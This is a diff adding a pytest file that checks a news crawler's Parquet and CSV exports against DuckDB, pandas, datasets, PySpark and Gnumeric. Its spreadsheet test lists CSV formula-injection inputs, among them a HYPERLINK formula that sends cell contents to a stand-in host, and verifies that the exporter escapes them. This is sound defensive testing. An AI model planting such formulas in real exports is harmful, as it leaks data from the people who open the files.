@@ -1,0 +1,122 @@
+"""Rows and exports under the programs that read such: DuckDB, pandas, datasets, Spark, a spreadsheet."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import re
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from crawler.exporting.rows import Row
+from crawler.exporting.tables import table_to
+from interop.conftest import News
+from interop.foreign import ROOT, run
+
+PYTHON = ROOT / ".venv-data/bin/python"
+SECTION = re.search(r"## Use the rows\n(.*?)\n## ", (ROOT / "README.md").read_text("utf-8"), re.S)
+BLOCKS = re.findall(r"```(sql|python)\n(.*?)```", SECTION[1] if SECTION else "", re.S)
+TITLES = {
+    "pandas": "[*articles.title]",
+    "datasets": "articles['title'][:]",
+    "pyspark": "[row.title for row in articles.collect()]",
+}
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", " =1+1", '=HYPERLINK("http://x.example/?"&A1)']
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory, demo) -> News:
+    """Three days of two outlets."""
+    made = News(tmp_path_factory.mktemp("rows") / "archive")
+    for outlet in ("demo_daily", "demo_tv"):
+        days = ("-a", "since=2026-11-22", "-a", "until=2026-11-24")
+        options = ("-s", f"DEMO_URL={demo.url}", "-s", "DOWNLOAD_DELAY=0", "-s", "LOG_LEVEL=WARNING")
+        made.scrapy("crawl", outlet, *days, *options)
+    return made
+
+
+@pytest.fixture(scope="module")
+def rows(made) -> list[dict]:
+    files = sorted((made.folder / "articles").rglob("*.jsonl.gz"))
+    return [json.loads(line) for file in files for line in gzip.decompress(file.read_bytes()).splitlines()]
+
+
+@pytest.fixture(scope="module")
+def exported(made) -> Path:
+    for form in ("parquet", "csv"):
+        made.scrapy("export", "--to", made.folder.with_name(f"articles.{form}"))
+    return made.folder.parent
+
+
+def python(folder: Path, code: str) -> object:
+    """Run code of the readers' environment in a folder; return the JSON that it prints last."""
+    environment = {**os.environ, "HF_HOME": str(folder / "hub"), "SPARK_LOCAL_IP": "127.0.0.1"}
+    done = subprocess.run(
+        [PYTHON, "-c", f"import json\n{code}"],
+        cwd=folder, env=environment, capture_output=True, text=True, check=False, timeout=200,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-3000:]
+    return json.loads(done.stdout.splitlines()[-1])
+
+
+@pytest.mark.parametrize("library", TITLES)
+def test_what_the_readme_says_reads_every_row(made, rows, library):
+    (block,) = (text for _, text in BLOCKS if re.search(rf"^(?:from|import) {library}\b", text, re.M))
+    titles = python(made.folder.parent, f"{block}\nprint(json.dumps({TITLES[library]}))")
+    assert sorted(titles) == sorted(row["title"] for row in rows)
+
+
+def test_what_the_readme_says_counts_every_row_in_duckdb(made, rows):
+    (block,) = (text for language, text in BLOCKS if language == "sql")
+    code = f"import duckdb\nfor one in duckdb.extract_statements({block!r}):\n    found = duckdb.sql(one.query)\n"
+    found = python(made.folder.parent, f"{code}print(json.dumps([row[:2] for row in found.fetchall()]))")
+    outlets = [row["outlet"] for row in rows]
+    assert sorted(found) == [[outlet, outlets.count(outlet)] for outlet in sorted(set(outlets))]
+
+
+def test_duckdb_reads_from_parquet_the_rows_as_they_are(exported, rows):
+    code = "import duckdb\nfound = duckdb.sql(\"FROM 'articles.parquet'\")\n"
+    code += "print(json.dumps([dict(zip(found.columns, row)) for row in found.fetchall()]))"
+    assert python(exported, code) == rows
+
+
+def test_pandas_reads_from_parquet_and_csv_the_same_texts(exported, rows):
+    for form in ("parquet", "csv"):
+        code = f"import pandas\nfound = pandas.read_{form}('articles.{form}')\n"
+        names = ("id", "title", "text", "fetched_at", "version", "http_status")
+        code += f"print(found[{list(names)}].to_json(orient='records', force_ascii=False))"
+        assert python(exported, code) == [{name: row[name] for name in names} for row in rows]
+
+
+def test_datasets_reads_parquet(exported, rows):
+    code = "from datasets import load_dataset\n"
+    code += "found = load_dataset('parquet', data_files='articles.parquet', split='train')\n"
+    assert python(exported, f"{code}print(json.dumps(list(found)))") == rows
+
+
+def test_a_spreadsheet_finds_no_formula_in_an_export(rows, tmp_path):
+    """Gnumeric tells by itself: of the same cells without our apostrophe it makes formulas."""
+    stream = io.BytesIO()
+    with table_to(stream, "csv") as table:
+        for number, text in enumerate(FORMULAS):
+            table.add(Row("here", number, b"", rows[0] | {"title": text, "section": text}))
+    (tmp_path / "bare.csv").write_bytes(re.sub(rb"(^|[,\"])'", rb"\1", stream.getvalue()))
+    (tmp_path / "ours.csv").write_bytes(stream.getvalue())
+    assert formulas(tmp_path / "bare.csv") > 0
+    assert formulas(tmp_path / "ours.csv") == 0
+
+
+def formulas(path: Path) -> int:
+    """Return how many formulas Gnumeric finds in a CSV file."""
+    book = path.with_suffix(".xlsx")
+    done = run("ssconvert", "--import-encoding=UTF-8", path, book)
+    assert done.returncode == 0, done.stderr
+    with zipfile.ZipFile(book) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert sheet.count("<row ") == len(FORMULAS) + 1
+    return sheet.count("<f>")
